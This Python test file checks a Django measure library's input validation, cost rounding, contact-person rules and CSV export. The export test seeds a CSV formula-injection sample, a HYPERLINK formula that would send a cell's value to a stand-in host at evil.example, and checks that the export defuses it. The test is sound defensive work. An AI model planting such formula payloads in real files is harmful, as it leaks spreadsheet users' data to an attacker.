"""Review of the measure library: bad ids answer with a form error or a 400, and the CSV
export never hands a spreadsheet a formula written by another organisation."""

import csv
import io

import pytest
from django.test import Client

from lom.accounts.models import ApiToken
from lom.library.models import LibraryEntry
from tests.api_client import error_field
from tests.factories import make_completed_case, make_world, publish_library_entry

pytestmark = pytest.mark.django_db

OUT_OF_RANGE = "99999999999999999999999"


def test_draft_form_with_an_out_of_range_measure_type_is_a_form_error_not_a_500():
    w = make_world("revlib")
    case = make_completed_case(w)
    c = Client(raise_request_exception=False)
    c.force_login(w.coordinator)
    r = c.post(
        f"/library/new/{case.pk}/",
        {
            "title": "Kurs i analys",
            "need": "Mer analys i verksamheten",
            "summary": "Kurs på deltid",
            "measure_type_ids": [OUT_OF_RANGE],
            "reviewed": "on",
        },
    )
    body = r.content.decode()
    assert r.status_code == 400
    assert "error-summary" in body and "Kurs i analys" in body  # what was typed is kept
    assert not LibraryEntry.objects.filter(case=case).exists()


def test_api_draft_with_an_out_of_range_measure_type_is_a_400():
    w = make_world("revlibapi")
    case = make_completed_case(w)
    _t, raw = ApiToken.issue(user=w.coordinator)
    r = Client(raise_request_exception=False).post(
        f"/api/v1/library/cases/{case.pk}/entry",
        {
            "title": "Kurs i analys",
            "need": "Mer analys",
            "summary": "Kurs på deltid",
            "measure_type_ids": [int(OUT_OF_RANGE)],
            "reviewed": True,
        },
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    assert r.status_code in (400, 422)
    assert error_field(r) == "measure_type_ids.0"
    assert not LibraryEntry.objects.filter(case=case).exists()


def test_csv_export_neutralises_formulas_from_other_organisations():
    author = make_world("revlibcsv")
    publish_library_entry(
        author,
        make_completed_case(author),
        title='=HYPERLINK("https://evil.example/?x="&A1;"Klicka")',
        summary="+SUM(1;2) och en kurs på deltid",
    )
    reader = make_world("revlibcsv2")
    c = Client()
    c.force_login(reader.coordinator)
    r = c.get("/library/export.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.getvalue().decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1][0].startswith("'=HYPERLINK(")
    assert rows[1][3].startswith("'+SUM(")
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)


def test_published_costs_round_halves_up_in_integer_ore():
    from lom.library.services import published_costs

    # 2 500 kr for one participant: to the nearest 1 000 kr, halves up.
    assert published_costs(actual_ore=2_500_00, participants=1) == (None, 3_000_00)
    assert published_costs(actual_ore=4_500_00, participants=1) == (None, 5_000_00)
    # Five participants, 102 500 kr: total to 1 000 kr, 20 500 kr each to 100 kr.
    assert published_costs(actual_ore=102_500_00, participants=5) == (103_000_00, 20_500_00)
    total, per = published_costs(actual_ore=10**15 + 50_000, participants=5)
    assert isinstance(total, int) and total == 10**15 + 100_000
    assert isinstance(per, int)


def test_the_service_refuses_an_employee_as_contact_person_as_the_form_does():
    """Only the parties may stand as contact person; through the API an employee (such as
    the participant) could otherwise be named next to the organisation's name."""
    w = make_world("revlibcontact")
    case = make_completed_case(w)
    _t, raw = ApiToken.issue(user=w.coordinator)
    payload = {
        "title": "Kurs i analys",
        "need": "Mer analys",
        "summary": "Kurs på deltid",
        "measure_type_ids": list(case.measure_types.values_list("pk", flat=True)),
        "contact_user_id": w.employee.pk,
        "contact_agreed": True,
        "reviewed": True,
    }
    c = Client(raise_request_exception=False)
    h = {"HTTP_AUTHORIZATION": f"Bearer {raw}"}
    r = c.post(
        f"/api/v1/library/cases/{case.pk}/entry", payload, content_type="application/json", **h
    )
    assert r.status_code == 400 and r.json()["field"] == "contact_user_id"
    assert not LibraryEntry.objects.filter(case=case).exists()
    payload["contact_user_id"] = w.coordinator.pk
    r = c.post(
        f"/api/v1/library/cases/{case.pk}/entry", payload, content_type="application/json", **h
    )
    assert r.status_code == 201 and r.json()["contact_name"]
